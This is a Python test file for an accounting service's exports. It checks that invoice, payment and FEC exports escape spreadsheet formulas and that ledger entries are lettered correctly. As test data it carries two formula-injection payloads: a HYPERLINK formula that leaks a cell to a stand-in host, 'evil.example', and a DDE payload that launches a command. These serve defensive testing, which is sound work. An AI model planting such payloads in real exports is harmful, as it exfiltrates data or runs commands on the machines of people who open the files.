"""Spreadsheet formulas planted in a customer name and a payment reference do not run when the
accountant opens the exports (LibreOffice Calc headless converts each file and no cell holds a
formula), and the FEC posts the customer on one auxiliary account with its invoice and payment
lettered together."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
from pathlib import Path

import pytest

from .data_fixtures import TODAY, DataStack

pytestmark = pytest.mark.timeout(300)

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'
FORMULA_REFERENCE = "@SUM(1+1)*cmd|' /C calc'!A0"
# LibreOffice's CSV filter options: separator, text delimiter ("), UTF-8, first line.
SEMICOLON, TAB = "CSV:59,34,76,1", "CSV:9,34,76,1"


async def opened_in_calc(file: Path, filter_options: str, profile: Path) -> str:
    """The file as LibreOffice Calc reads it, saved as a flat OpenDocument spreadsheet (XML)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.fail("LibreOffice is missing: scripts/install-system-deps (libreoffice-calc-nogui)")
    process = await asyncio.create_subprocess_exec(
        soffice,
        f"-env:UserInstallation=file://{profile}",
        "--headless",
        f"--infilter={filter_options}",
        "--convert-to",
        "fods",
        "--outdir",
        str(file.parent),
        str(file),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    output, _ = await asyncio.wait_for(process.communicate(), timeout=180)
    converted = file.with_suffix(".fods")
    assert converted.is_file(), output.decode(errors="replace")
    return converted.read_text(encoding="utf-8")


async def test_exports_open_in_a_spreadsheet_without_running_a_formula(
    data_stack: DataStack, tmp_path: Path
) -> None:
    stack = data_stack
    customer = await stack.customer(name=FORMULA_NAME)
    invoice = await stack.issued_invoice(customer["id"])
    paid = await stack.pay(
        customer["id"],
        invoice["total_including_vat_cents"],
        invoice_id=invoice["id"],
        reference=FORMULA_REFERENCE,
    )
    assert paid.status_code == 201, paid.text
    span = {"from_date": TODAY.isoformat(), "to_date": TODAY.isoformat()}
    files = {}
    for name in ("invoices.csv", "payments.csv", "fec"):
        response = await stack.call("compta", "GET", f"/exports/{name}", params=span)
        assert response.status_code == 200, response.text
        files[name] = response.content

    # Other tests of the session issue invoices on the same day: only this customer's rows count.
    ours = {customer["id"], customer["code"]}
    invoices = [
        row
        for row in csv.DictReader(
            io.StringIO(files["invoices.csv"].decode("utf-8-sig")), delimiter=";"
        )
        if row["code_client"] in ours
    ]
    assert [row["client"] for row in invoices] == ["'" + FORMULA_NAME]
    assert invoices[0]["total_ttc"] == "120,00"  # amounts stay numbers
    payments = [
        row
        for row in csv.DictReader(
            io.StringIO(files["payments.csv"].decode("utf-8-sig")), delimiter=";"
        )
        if row["code_client"] in ours
    ]
    assert [row["reference"] for row in payments] == ["'" + FORMULA_REFERENCE]
    assert [row["client"] for row in payments] == ["'" + FORMULA_NAME]

    profile = tmp_path / "libreoffice-profile"
    for name, options in (
        ("invoices.csv", SEMICOLON),
        ("payments.csv", SEMICOLON),
        ("fec", TAB),
    ):
        file = tmp_path / (name if name.endswith(".csv") else "fec.csv")
        file.write_bytes(files[name])
        sheet = await opened_in_calc(file, options, profile)
        assert "table:formula" not in sheet, name
        assert "HYPERLINK" in sheet or "SUM(1+1)" in sheet, name  # the text is still there

    # One auxiliary account for the customer on sales and bank lines, lettered together.
    lines = files["fec"].decode().splitlines()
    header = lines[0].split("\t")
    every_entry = [dict(zip(header, line.split("\t"), strict=True)) for line in lines[1:]]
    ours_fec = {
        (e["JournalCode"], e["EcritureNum"])
        for e in every_entry
        if e["CompAuxNum"] == customer["code"]
    }
    entries = [e for e in every_entry if (e["JournalCode"], e["EcritureNum"]) in ours_fec]
    assert {e["JournalCode"] for e in entries} == {"VE", "BQ"}
    receivable = [e for e in entries if e["CompteNum"] == "411000"]
    assert {e["JournalCode"] for e in receivable} == {"VE", "BQ"}
    assert {e["CompAuxNum"] for e in receivable} == {customer["code"]}
    assert {(e["EcritureLet"], e["DateLet"]) for e in receivable} == {("AA", f"{TODAY:%Y%m%d}")}
    assert all(e["EcritureLet"] == "" for e in entries if e["CompteNum"] != "411000")
